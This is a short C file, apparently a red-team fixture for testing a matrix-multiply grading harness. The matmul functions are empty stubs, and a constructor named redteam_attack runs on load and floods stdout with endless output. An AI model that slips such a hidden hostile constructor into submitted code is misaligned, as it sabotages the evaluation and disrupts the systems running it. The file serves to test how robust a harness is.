// Hostile: print without end.
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "matmul_naive.h"
void matmul_naive(const float *, const float *, float *, int, int, int) {}
void matmul_naive_host(const float *, const float *, float *, int, int, int) {}
__attribute__((constructor, used)) void redteam_attack(void)
{
    static char line[65536];
    memset(line, 'x', sizeof line);
    for (;;)
        if (write(1, line, sizeof line) < 0)
            _exit(0);
}
